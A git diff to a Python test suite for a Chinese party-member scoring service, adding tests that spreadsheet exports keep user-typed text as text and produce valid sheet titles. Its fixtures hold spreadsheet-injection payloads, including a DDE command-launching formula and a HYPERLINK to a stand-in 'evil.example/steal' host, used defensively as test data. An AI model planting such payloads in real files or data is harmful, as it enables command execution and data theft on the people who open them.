@@ -6,10 +6,11 @@ import io
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime, timedelta
 from typing import Any
+from zipfile import ZipFile
 
 import httpx
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 from PIL import Image
 from sqlalchemy import text, update
 from sqlalchemy.exc import DBAPIError, IntegrityError
@@ -22,13 +23,14 @@ from api.models import (
     Delivery,
     Member,
     Notice,
+    OrgUnit,
     PostKind,
     PostStatus,
     Publication,
     RobotPost,
     utcnow,
 )
-from api.services import robots
+from api.services import exports, robots
 from api.services.ledger import today_in_shanghai
 from api.wechat.wecom import RobotClient
 from tests.conftest import UNIT_NAMES, Org
@@ -417,7 +419,7 @@ async def test_an_invalid_key_is_reported_to_the_secretary_not_retried(
     blocked = await client.post(
         f"{url}/posts", json={"period_id": closed}, headers=org.headers("secretary_a")
     )
-    assert (blocked.status_code, blocked.json()["code"]) == (422, "robot_key_invalid")
+    assert (blocked.status_code, blocked.json()["code"]) == (409, "robot_disabled")
     renewed = await configure(client, org, key=OTHER_KEY)
     assert renewed.json()["status"] == "active" and renewed.json()["failure"] is None
 
@@ -565,7 +567,7 @@ async def test_the_branch_assessment_table_lists_item_scores_total_and_tier(
     period_id = await open_period(client, org, scheme_id)
     url = f"/api/v1/periods/{period_id}/exports/assessment.xlsx"
     early = await client.get(url, headers=org.headers("admin"))
-    assert (early.status_code, early.json()["code"]) == (409, "period_state_conflict")
+    assert (early.status_code, early.json()["code"]) == (409, "period_not_closed")
     await client.post(
         f"/api/v1/periods/{period_id}/close", json=EARLY_CLOSE, headers=org.headers("admin")
     )
@@ -625,3 +627,150 @@ async def test_heyang_boards_and_exports_say_who_may_not_be_nominated_for_awards
     exported = {row[2]: row[-1] for row in rows[3:]}
     assert exported["member_a1"] == f"不得推荐：{reason}"
     assert exported["member_a2"] == "可推荐"
+
+
+# --- what leaves the service: text stays text, sheet titles stay valid ------------------------
+
+HOSTILE_NAME = "=cmd|' /C calc'!A0"
+HOSTILE_REASON = '=HYPERLINK("http://evil.example/steal","点我查看")'
+HOSTILE_GROUP = "@SUM(1+1)"
+HOSTILE_BRANCH = "-2+3 甲村党支部"
+SLASHED_NAME = "王/小\\明?*[组长]:'一个很长很长很长很长很长很长的名字'"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def text_cells(content: bytes) -> list[Any]:
+    """Every text cell of every sheet, checked to be text: no formula anywhere in the file, and
+    any cell a spreadsheet could read as one is a string with the quote prefix."""
+    with ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = archive.read(name).decode()
+                assert "<f>" not in xml and "<f " not in xml, name
+    cells = []
+    for sheet in load_workbook(io.BytesIO(content)).worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s", cell.value
+                    if cell.value.startswith(FORMULA_STARTS):
+                        assert cell.quotePrefix, cell.value
+                    cells.append(cell.value)
+    return cells
+
+
+async def rename(sessionmaker: Maker, org: Org, unit: str, name: str) -> None:
+    async with sessionmaker() as session:
+        await session.execute(
+            update(OrgUnit).where(col(OrgUnit.id) == org.unit_id(unit)).values(name=name)
+        )
+        await session.commit()
+
+
+async def test_no_export_writes_a_formula_from_what_users_typed(
+    client: httpx.AsyncClient, org: Org, sessionmaker: Maker
+) -> None:
+    renamed = await client.patch(
+        f"/api/v1/members/{org.id('member_a1')}",
+        json={"name": HOSTILE_NAME},
+        headers=org.headers("secretary_a"),
+    )
+    assert renamed.status_code == 200, renamed.text
+    await rename(sessionmaker, org, "group_a1", HOSTILE_GROUP)
+    await rename(sessionmaker, org, "branch_a", HOSTILE_BRANCH)
+    scheme_id = await attach(client, org, "lutou")
+    response = await client.post(
+        f"/api/v1/members/{org.id('member_a1')}/adjustments",
+        json={
+            "item_code": "flood_fighting",
+            "occurred_on": TODAY.isoformat(),
+            "reason": HOSTILE_REASON,
+        },
+        headers=org.headers("admin"),
+    )
+    assert response.status_code == 201, response.text
+    period_id = await open_period(client, org, scheme_id)
+    assert (
+        await client.post(
+            f"/api/v1/periods/{period_id}/close", json=EARLY_CLOSE, headers=org.headers("admin")
+        )
+    ).status_code == 200
+    await publish(client, org, period_id)
+    branch_scheme = await attach(client, org, "yongxi")
+    created = await client.post(
+        f"/api/v1/org/units/{org.unit_id('branch_a')}/assessments",
+        json={
+            "item_code": "sanitation",
+            "points": "5",
+            "occurred_on": TODAY.isoformat(),
+            "reason": "考核",
+        },
+        headers=org.headers("admin"),
+    )
+    assert created.status_code == 201, created.text
+    branch_period = await open_period(client, org, branch_scheme)
+    await client.post(
+        f"/api/v1/periods/{branch_period}/close", json=EARLY_CLOSE, headers=org.headers("admin")
+    )
+    quarter = f"{TODAY.year}-Q{(TODAY.month - 1) // 3 + 1}"
+    admin = org.headers("admin")
+    files = {
+        "公示表": await client.get(
+            f"/api/v1/periods/{period_id}/exports/ranking.xlsx", headers=admin
+        ),
+        "一人一卡": await client.get(
+            f"/api/v1/members/{org.id('member_a1')}/exports/card.xlsx",
+            params={"year": TODAY.year},
+            headers=admin,
+        ),
+        "汇总公示卡": await client.get(
+            f"/api/v1/org/units/{org.unit_id('town')}/exports/quarterly-summary.xlsx",
+            params={"quarter": quarter},
+            headers=admin,
+        ),
+        "考核表": await client.get(
+            f"/api/v1/periods/{branch_period}/exports/assessment.xlsx", headers=admin
+        ),
+    }
+    expected = {
+        "公示表": {HOSTILE_NAME, HOSTILE_GROUP, HOSTILE_BRANCH},
+        "一人一卡": {HOSTILE_REASON},
+        "汇总公示卡": {HOSTILE_NAME, HOSTILE_GROUP, HOSTILE_BRANCH},
+        "考核表": {HOSTILE_BRANCH},
+    }
+    for name, response in files.items():
+        assert response.status_code == 200, (name, response.text)
+        assert expected[name] <= set(text_cells(response.content)), name
+
+
+async def test_a_name_no_sheet_title_may_hold_gives_a_valid_card(
+    client: httpx.AsyncClient, org: Org, published: int
+) -> None:
+    renamed = await client.patch(
+        f"/api/v1/members/{org.id('member_a2')}",
+        json={"name": SLASHED_NAME},
+        headers=org.headers("secretary_a"),
+    )
+    assert renamed.status_code == 200, renamed.text
+    response = await client.get(
+        f"/api/v1/members/{org.id('member_a2')}/exports/card.xlsx",
+        params={"year": TODAY.year},
+        headers=org.headers("admin"),
+    )
+    assert response.status_code == 200, response.text
+    [title] = load_workbook(io.BytesIO(response.content)).sheetnames
+    assert len(title) <= 31 and not set(title) & set("\\/?*[]:")
+    assert not title.startswith("'") and not title.endswith("'")
+    assert title.startswith("王_小_明")
+    assert SLASHED_NAME in text_cells(response.content)[0]
+    disposition = response.headers["content-disposition"]
+    assert "%2F" not in disposition and "/" not in disposition.split("''")[-1]
+
+
+def test_sheet_titles_are_unique_in_their_book() -> None:
+    book = Workbook(write_only=True)
+    first = exports.sheet_title(book, "a" * 40)
+    book.create_sheet(first)
+    second = exports.sheet_title(book, "a" * 40)
+    assert (len(first), len(second)) == (31, 31)
+    assert first != second and second.endswith("(2)")
